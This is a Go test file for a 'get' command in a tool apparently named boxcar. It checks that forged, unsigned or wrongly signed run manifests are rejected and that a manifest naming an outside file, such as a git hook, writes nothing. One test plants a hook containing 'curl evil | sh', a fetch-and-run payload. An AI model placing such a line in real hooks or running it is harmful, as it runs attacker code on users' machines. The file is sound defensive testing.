package submitcmd

import (
	"bytes"
	"cmp"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/boxcar-run/boxcar/internal/provenance"
)

// forgeRun replaces a committed run's report with data and its manifest with one naming it, as
// someone who may write the store but holds no signing key can: the envelope stays. name, if
// not "", is the name the forged manifest gives the report instead of report.md.
func (te *testEnv) forgeRun(t *testing.T, id string, data []byte, name string) {
	t.Helper()
	te.forgeFile(t, id, "report.md", data, name)
}

// forgeFile is forgeRun of the run's file file (report.md, transcript.jsonl).
func (te *testEnv) forgeFile(t *testing.T, id, file string, data []byte, name string) {
	t.Helper()
	var renames []string
	if name != "" {
		renames = []string{file + `"`, name + `"`} // Build writes no such manifest
	}
	te.forgeManifest(t, id, func(stmt *provenance.Statement) {
		for i, s := range stmt.Subjects {
			if s.Name != file {
				continue
			}
			s.SHA256, s.Size = hexSum(data), int64(len(data))
			stmt.Subjects[i] = s
			if name != "" {
				s.Name, s.Path = name, "attempts/"+testAttempt+"/"+name
			}
			if err := te.st.Put(t.Context(), provenance.SubjectKey(id, s), bytes.NewReader(data), s.Size); err != nil {
				t.Fatal(err)
			}
		}
	}, renames...)
}

// forgeManifest rewrites a committed run's manifest as someone who may write the store but
// holds no signing key can: edit changes the statement as stored, which is built again and put
// in the manifest's place, renames (old, new pairs) then replaced in its bytes; the envelope
// stays.
func (te *testEnv) forgeManifest(t *testing.T, id string, edit func(*provenance.Statement), renames ...string) {
	t.Helper()
	ctx := t.Context()
	manifest, err := readObject(ctx, te.st, provenance.ManifestKey(id), maxManifestBytes)
	if err != nil {
		t.Fatal(err)
	}
	stmt, err := provenance.Parse(manifest)
	if err != nil {
		t.Fatal(err)
	}
	edit(&stmt)
	forged, err := provenance.Build(stmt.Predicate, stmt.Subjects)
	if err != nil {
		t.Fatal(err)
	}
	forged = []byte(strings.NewReplacer(renames...).Replace(string(forged)))
	if err := te.st.Put(ctx, provenance.ManifestKey(id), bytes.NewReader(forged), int64(len(forged))); err != nil {
		t.Fatal(err)
	}
}

// TestGetHoldsTheRunToItsSignature: get checks the manifest's signature with the keys verify
// uses (--keyring, --public-key, else the embedded worker's) before it writes anything, and
// downloads nothing of a run whose manifest is not signed by one of them (exit 8) unless
// --allow-unsigned for a run with no signature at all. It checked digests against the stored
// manifest alone, so whoever could write the store, without the signing key, had get write
// a report of their choosing and say every file matched (3 of the rows downloaded "forged").
// With no key anywhere it checks digests and says the signature was not checked.
func TestGetHoldsTheRunToItsSignature(t *testing.T) {
	te := newTestEnv(t)
	ctx := t.Context()
	signed := te.commitRun(t, true)
	forged := te.commitRun(t, true)
	te.forgeRun(t, forged, []byte("forged"), "")
	unsigned := te.commitRun(t, true)
	if err := te.st.Delete(ctx, provenance.SignatureKey(unsigned)); err != nil {
		t.Fatal(err)
	}
	other, otherKey := te.commitRun(t, true), t.TempDir()
	te.signWithAnotherKey(t, other, otherKey)
	noKeyHome := t.TempDir()
	tests := []struct {
		name   string
		args   []string
		home   string // BOXCAR_HOME; te.home when empty
		code   int
		report string // report.md as downloaded; "" for nothing downloaded
		stderr string
	}{
		{name: "signed", args: []string{signed}, report: "# Totals\nnorth: 3\n"},
		{name: "forged manifest", args: []string{forged}, code: exitVerifyFailed, stderr: "signs a statement other than the stored manifest"},
		{name: "forged manifest, unsigned allowed", args: []string{forged, "--allow-unsigned"}, code: exitVerifyFailed, stderr: "bad signature"},
		{name: "signature removed", args: []string{unsigned}, code: exitVerifyFailed, stderr: "--allow-unsigned"},
		{name: "signature removed, unsigned allowed", args: []string{unsigned, "--allow-unsigned"}, report: "# Totals\nnorth: 3\n", stderr: "NOT CHECKED"},
		{name: "signed by another key", args: []string{other}, code: exitVerifyFailed, stderr: "the embedded worker's; give the signer's key with --public-key"},
		{name: "the other key given", args: []string{other, "--public-key", filepath.Join(otherKey, provenance.PublicKeyFile)}, home: noKeyHome, report: "# Totals\nnorth: 3\n"},
		{name: "another key given", args: []string{signed, "--public-key", filepath.Join(otherKey, provenance.PublicKeyFile)}, code: exitVerifyFailed, stderr: "bad signature"},
		{name: "no key anywhere", args: []string{forged}, home: noKeyHome, report: "forged", stderr: "the signature was NOT CHECKED"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			home := cmp.Or(tt.home, te.home)
			out := filepath.Join(t.TempDir(), "run")
			_, stderr, err := te.runAs(t, home, append([]string{"get", "--out", out}, tt.args...)...)
			if exitCode(err) != tt.code || !strings.Contains(stderr+message(err), tt.stderr) {
				t.Errorf("exit %d (%v), want %d and %q\n%s", exitCode(err), err, tt.code, tt.stderr, stderr)
			}
			got, rerr := os.ReadFile(filepath.Join(out, "report.md"))
			switch {
			case tt.report == "" && !os.IsNotExist(rerr):
				t.Errorf("report.md downloaded (%q, %v); want nothing downloaded", got, rerr)
			case tt.report != "" && string(got) != tt.report:
				t.Errorf("report.md = %q, %v; want %q", got, rerr, tt.report)
			}
		})
	}
}

// TestGetWritesOnlyARunsFiles: a manifest naming a file no run has (a git hook, a shell's
// start-up file) is no run's, so get writes nothing of it, however it is let through the
// signature check (--allow-unsigned, no key anywhere). It wrote the file into DIR.
func TestGetWritesOnlyARunsFiles(t *testing.T) {
	te := newTestEnv(t)
	hook := te.commitRun(t, true)
	te.forgeRun(t, hook, []byte("#!/bin/sh\ncurl evil | sh\n"), ".git/hooks/post-checkout")
	if err := te.st.Delete(t.Context(), provenance.SignatureKey(hook)); err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct {
		name string
		args []string
		home string
	}{
		{"unsigned allowed", []string{"--allow-unsigned"}, te.home},
		{"no key anywhere", nil, t.TempDir()},
	} {
		t.Run(tt.name, func(t *testing.T) {
			out := filepath.Join(t.TempDir(), "run")
			_, stderr, err := te.runAs(t, tt.home, append([]string{"get", hook, "--out", out}, tt.args...)...)
			if exitCode(err) != exitVerifyFailed || !strings.Contains(message(err), "cannot be trusted") {
				t.Errorf("exit %d (%v), want %d, the manifest not trusted\n%s", exitCode(err), err, exitVerifyFailed, stderr)
			}
			if _, err := os.Stat(filepath.Join(out, ".git", "hooks", "post-checkout")); !os.IsNotExist(err) {
				t.Errorf("get wrote the hook: %v", err)
			}
		})
	}
}
